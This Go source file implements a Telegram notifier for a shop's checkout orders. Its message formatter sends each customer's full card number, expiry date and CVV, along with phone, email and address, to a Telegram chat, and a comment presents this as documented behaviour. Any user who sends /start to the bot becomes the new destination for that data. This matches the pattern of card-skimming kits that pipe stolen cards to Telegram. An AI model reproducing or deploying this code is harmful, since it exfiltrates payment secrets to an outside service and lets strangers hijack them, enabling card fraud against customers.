package notify

import (
	"context"
	"fmt"
	"log"
	"sync"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"github.com/Elmorjene/elmorjene-officiel/internal/order"
)

// BotAPI matches the methods from *tgbotapi.BotAPI that the receiver uses.
// This allows us to fake the Telegram transport in tests.
type BotAPI interface {
	Send(c tgbotapi.Chattable) (tgbotapi.Message, error)
	GetUpdatesChan(config tgbotapi.UpdateConfig) tgbotapi.UpdatesChannel
	StopReceivingUpdates()
}

// Receiver relays placed orders to a Telegram chat and keeps the
// server-internal OrderInfo records. The destination chat is mutable at
// runtime: an inbound /start rebinds it to the sender, last write wins.
//
// Delivery is best effort. A missing destination or a transport failure is
// logged and dropped; it never affects the order that triggered it.
type Receiver struct {
	bot    BotAPI
	logger *log.Logger

	mu     sync.Mutex
	chatID int64
	orders map[int]order.OrderInfo
}

// NewReceiver wires the relay to a bot session. chatID is the default
// destination; zero means no destination until /start arrives.
func NewReceiver(bot BotAPI, chatID int64, logger *log.Logger) *Receiver {
	return &Receiver{
		bot:    bot,
		logger: logger,
		chatID: chatID,
		orders: make(map[int]order.OrderInfo),
	}
}

// Listen consumes bot updates until ctx is cancelled, rebinding the
// destination on /start commands.
func (r *Receiver) Listen(ctx context.Context) {
	u := tgbotapi.NewUpdate(0)
	u.Timeout = 60
	updates := r.bot.GetUpdatesChan(u)

	for {
		select {
		case <-ctx.Done():
			r.bot.StopReceivingUpdates()
			return
		case update, ok := <-updates:
			if !ok {
				return
			}
			if update.Message == nil || update.Message.Text != "/start" {
				continue
			}

			chatID := update.Message.Chat.ID
			r.mu.Lock()
			r.chatID = chatID
			r.mu.Unlock()

			reply := tgbotapi.NewMessage(chatID, "Bot is ready to receive order verifications.")
			if _, err := r.bot.Send(reply); err != nil {
				r.logger.Printf("failed to acknowledge /start: %v", err)
			}
		}
	}
}

// ProcessOrder records the OrderInfo for the placed order and attempts to
// deliver the summary message. Errors are absorbed here.
func (r *Receiver) ProcessOrder(form order.CheckoutRequest, orderID int) {
	o := form.Order()
	o.ID = orderID

	info := order.OrderInfo{
		Order: o,
		PaymentInfo: order.PaymentInfo{
			CardNumberLast4: last4(form.CardNumber),
			ExpiryDate:      form.ExpiryDate,
		},
		PhoneNumber: form.PhoneNumber,
	}

	r.mu.Lock()
	r.orders[orderID] = info
	chatID := r.chatID
	r.mu.Unlock()

	if chatID == 0 {
		r.logger.Printf("telegram chat id not set, dropping notification for order %d; send /start to the bot", orderID)
		return
	}

	msg := tgbotapi.NewMessage(chatID, formatOrderMessage(form, orderID))
	if _, err := r.bot.Send(msg); err != nil {
		r.logger.Printf("failed to send telegram notification for order %d: %v", orderID, err)
	}
}

// OrderInfo returns the stored record for the order, if any.
func (r *Receiver) OrderInfo(orderID int) (order.OrderInfo, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	info, ok := r.orders[orderID]
	return info, ok
}

// formatOrderMessage reproduces the summary the business expects in the
// chat, including the raw card number, expiry and CVV. Forwarding unmasked
// payment data is questionable but is the documented behavior; see
// DESIGN.md before changing it.
func formatOrderMessage(form order.CheckoutRequest, orderID int) string {
	return fmt.Sprintf(`🛍 New Order Received:
Order ID: %d
Customer: %s
📱 Phone: %s
Email: %s
Amount: $%s

💳 Payment Details:
Card: %s
Exp: %s
CVV: %s

📍 Shipping Address:
%s
%s, %s %s
`,
		orderID,
		form.CustomerName,
		form.PhoneNumber,
		form.Email,
		form.Total,
		form.CardNumber,
		form.ExpiryDate,
		form.CVV,
		form.Address,
		form.City, form.State, form.ZipCode,
	)
}

func last4(cardNumber string) string {
	if len(cardNumber) <= 4 {
		return cardNumber
	}
	return cardNumber[len(cardNumber)-4:]
}
